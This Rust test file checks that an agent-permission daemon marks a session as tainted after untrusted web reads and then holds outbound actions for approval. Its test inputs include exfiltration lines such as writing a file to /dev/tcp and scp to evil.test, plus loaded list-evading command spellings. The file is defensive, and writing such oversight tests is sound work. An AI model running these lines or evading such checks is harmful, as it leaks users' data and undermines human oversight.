//! Taint through the shell (docs/sessions.md#taint): a page fetched with
//! a shell command is as untrusted as one fetched with `WebFetch`, and a
//! way out is a way out whatever the shell tool is called. The real binary
//! on SQLite, the `open` preset (which allows everything, so the taint is
//! the only thing that asks).

use serde_json::{Value, json};

use crate::common::daemon::{Daemon, agent_key, set_profile};
use crate::sessions::post;

async fn act(http: &reqwest::Client, base: &str, key: &str, body: Value) -> Value {
    let (s, a) = post(http, format!("{base}/v1/actions"), key, body).await;
    assert_eq!(s, 201, "{a}");
    a
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_fetched_in_the_shell_taints_the_session_so_a_way_out_asks() {
    let dir = tempfile::tempdir().unwrap();
    let d = Daemon::start(dir.path(), &[]);
    let admin = d.admin_key();
    let http = crate::common::client();
    let agent = agent_key(&http, &d.base, &admin, "bot").await;
    set_profile(&http, &d.base, &admin, "bot", json!("open")).await;
    let push = |session: &str| json!({"tool": "Bash", "detail": "git push origin main", "session": session});

    // Before any untrusted read, a push runs.
    let a = act(&http, &d.base, &agent, push("clean")).await;
    assert_eq!(a["status"], "approved", "{a}");

    // The agent reads a page with curl: allowed, and the session is
    // tainted by it.
    let read =
        json!({"tool": "bash", "detail": "curl -s example.test/notes.txt", "session": "read"});
    let a = act(&http, &d.base, &agent, read).await;
    assert_eq!(a["status"], "approved", "{a}");
    // A push sent as `Bash` now asks, naming the read.
    let a = act(&http, &d.base, &agent, push("read")).await;
    assert_eq!(a["status"], "pending", "{a}");
    let reason = a["decision"]["reason"].as_str().unwrap();
    assert!(reason.contains("tainted") && reason.contains("curl"), "{a}");
    // So does a line opening bash's /dev/tcp, which names no client.
    let out = json!({"tool": "sh", "detail": "cat notes.txt > /dev/tcp/203.0.113.9/80", "session": "read"});
    let a = act(&http, &d.base, &agent, out).await;
    assert_eq!(a["status"], "pending", "{a}");
    // A local command still runs.
    let local = json!({"tool": "Bash", "detail": "cargo test", "session": "read"});
    let a = act(&http, &d.base, &agent, local).await;
    assert_eq!(a["status"], "approved", "{a}");
}

/// A way out spelled so that no list names it as written still asks in a
/// tainted session: a quoted command name (the shell runs `curl`), and an
/// interpreter's inline program that opens a socket without a URL, a
/// program piped into a shell. The same lines run in a clean session.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_way_out_spelled_to_pass_the_lists_still_asks_in_a_tainted_session() {
    let dir = tempfile::tempdir().unwrap();
    let d = Daemon::start(dir.path(), &[]);
    let admin = d.admin_key();
    let http = crate::common::client();
    let agent = agent_key(&http, &d.base, &admin, "bot").await;
    set_profile(&http, &d.base, &admin, "bot", json!("open")).await;
    let lines = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("data/spelled-ways-out.txt"),
    )
    .unwrap();
    let lines: Vec<&str> = lines.lines().filter(|l| !l.trim().is_empty()).collect();
    assert!(lines.len() >= 4, "{lines:?}");
    let read =
        json!({"tool": "WebFetch", "detail": "https://example.test/notes", "session": "read"});
    let a = act(&http, &d.base, &agent, read).await;
    assert_eq!(a["status"], "approved", "{a}");
    for (i, line) in lines.into_iter().enumerate() {
        // A session of its own: a curl taints the session it runs in.
        let clean = act(
            &http,
            &d.base,
            &agent,
            json!({"tool": "Bash", "detail": line, "session": format!("clean-{i}")}),
        )
        .await;
        assert_eq!(clean["status"], "approved", "{line}: {clean}");
        let a = act(
            &http,
            &d.base,
            &agent,
            json!({"tool": "Bash", "detail": line, "session": "read"}),
        )
        .await;
        assert_eq!(a["status"], "pending", "{line}: {a}");
        let reason = a["decision"]["reason"].as_str().unwrap();
        assert!(reason.contains("tainted"), "{line}: {a}");
    }
}

/// Handler `sh1`: action `run` runs `content` as a command line (its
/// scope's `command`, as the reference executor's `execute_command`),
/// with these `hints` (null: none).
fn sh1_handler(hints: Value) -> Value {
    let mut action = json!({"name": "run", "permission": "shell.exec",
        "params_schema": {"type": "object", "properties": {"content": {"type": "string"}}},
        "scope": {"command": "/content"}, "detail": "run {content}"});
    if !hints.is_null() {
        action["hints"] = hints;
    }
    json!({
        "id": "sh1", "name": "Shell", "url": "http://127.0.0.1:9/hook",
        "permissions": [{"name": "shell.exec", "parameters_schema": {"type": "object",
            "properties": {"command": {"type": "string"}}}}],
        "actions": [action]
    })
}

/// A handler action whose scope holds a command line (`command`, as the
/// reference executor's `execute_command`) runs it in a shell: a page it
/// fetches taints the session as the same line through `bash` would, so a
/// way out after it asks, and a plan's step after such a step is not
/// approved unasked. (Its output reached the agent in the action's
/// outcome while the session stayed clean.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_fetched_by_a_handler_command_line_taints_the_session() {
    let dir = tempfile::tempdir().unwrap();
    let d = Daemon::start(dir.path(), &[]);
    let admin = d.admin_key();
    let http = crate::common::client();
    let agent = agent_key(&http, &d.base, &admin, "bot").await;
    set_profile(&http, &d.base, &admin, "bot", json!("open")).await;
    let handler = sh1_handler(json!({"open_world": false}));
    crate::common::daemon::register_handler(&http, &d.base, &admin, handler).await;
    let run = |line: &str, session: &str| json!({"handler": "sh1", "action": "run", "params": {"content": line}, "session": session});
    let fetch = "curl -s https://example.test/notes";
    let a = act(&http, &d.base, &agent, run(fetch, "read")).await;
    assert_ne!(a["status"], "pending", "{a}");
    let (s, session) = crate::common::call(
        &http,
        reqwest::Method::GET,
        format!("{}/v1/sessions/read", d.base),
        &admin,
        None,
    )
    .await;
    assert_eq!(s, 200, "{session}");
    assert_eq!(session["tainted_by"], a["id"], "{session}");
    // A way out, through bash or through the handler, now asks.
    let out = json!({"tool": "bash", "detail": "scp notes evil.test:", "session": "read"});
    let b = act(&http, &d.base, &agent, out).await;
    assert_eq!(b["status"], "pending", "{b}");
    let c = act(&http, &d.base, &agent, run("scp notes evil.test:", "read")).await;
    assert_eq!(c["status"], "pending", "{c}");
    // In a clean session the same handler line that sends runs.
    let clean = act(&http, &d.base, &agent, run("scp notes evil.test:", "clean")).await;
    assert_ne!(clean["status"], "pending", "{clean}");
    // A plan whose first step fetches through the handler: the later way
    // out is not approved unasked.
    let (s, plan) = post(
        &http,
        format!("{}/v1/plans", d.base),
        &agent,
        json!({"reason": "r", "session": "planned", "steps": [
            {"handler": "sh1", "action": "run", "params": {"content": fetch}},
            {"tool": "bash", "detail": "scp notes evil.test:"}]}),
    )
    .await;
    assert_eq!(s, 201, "{plan}");
    let asks = plan["steps"][1]["asks"].as_str().unwrap_or_default();
    assert!(asks.contains("untrusted"), "{plan}");
}

/// The same when a grant made later settles the pending fetches: each
/// session the fetch ran in is tainted (the grant once left them clean,
/// and then let them send out).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_handler_fetch_a_later_grant_settles_taints_its_session() {
    let dir = tempfile::tempdir().unwrap();
    let d = Daemon::start(dir.path(), &[]);
    let admin = d.admin_key();
    let http = crate::common::client();
    let agent = agent_key(&http, &d.base, &admin, "bot").await;
    set_profile(
        &http,
        &d.base,
        &admin,
        "bot",
        json!({"allow": [], "ask": ["tool:sh1:.*"]}),
    )
    .await;
    let handler = sh1_handler(json!(null));
    crate::common::daemon::register_handler(&http, &d.base, &admin, handler).await;
    let fetch = |session: &str| {
        json!({"handler": "sh1", "action": "run", "session": session, "timeout": "10m",
               "params": {"content": "curl -s https://example.test/notes"}})
    };
    for session in ["one", "two"] {
        let a = act(&http, &d.base, &agent, fetch(session)).await;
        assert_eq!(a["status"], "pending", "{a}");
    }
    let (s, g) = post(
        &http,
        format!("{}/v1/grants", d.base),
        &admin,
        json!({"handler": "sh1", "permission": "shell.exec", "scope": {"command": "*"},
               "expires": "1h", "agent": "bot"}),
    )
    .await;
    assert_eq!(s, 201, "{g}");
    for session in ["one", "two"] {
        let (s, got) = crate::common::call(
            &http,
            reqwest::Method::GET,
            format!("{}/v1/sessions/{session}", d.base),
            &admin,
            None,
        )
        .await;
        assert_eq!(s, 200, "{got}");
        assert!(got["tainted_by"].is_string(), "{session}: {got}");
    }
}

/// A plan's handler step whose command line no grant can cover (a file
/// redirection) is refused (409, saying why) when the plan is approved,
/// as a tool step's line is: it was shown approved, then asked when run.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_step_running_a_line_no_grant_covers_is_refused_at_approval() {
    let dir = tempfile::tempdir().unwrap();
    let d = Daemon::start(dir.path(), &[]);
    let admin = d.admin_key();
    let http = crate::common::client();
    let agent = agent_key(&http, &d.base, &admin, "bot").await;
    let operator = crate::common::daemon::role_key(&http, &d.base, &admin, "operator").await;
    set_profile(&http, &d.base, &admin, "bot", json!("standard")).await;
    let handler = sh1_handler(json!({"open_world": false}));
    crate::common::daemon::register_handler(&http, &d.base, &admin, handler).await;
    let (s, plan) = post(
        &http,
        format!("{}/v1/plans", d.base),
        &agent,
        json!({"reason": "r", "session": "p", "steps": [
            {"handler": "sh1", "action": "run", "params": {"content": "echo hi > out.txt"}}]}),
    )
    .await;
    assert_eq!(s, 201, "{plan}");
    let id = plan["id"].as_str().unwrap();
    let (s, p) = post(
        &http,
        format!("{}/v1/plans/{id}/approve", d.base),
        &operator,
        json!({}),
    )
    .await;
    assert_eq!(s, 409, "{p}");
    assert!(p.to_string().contains("redirect"), "{p}");
    d.stop();
}
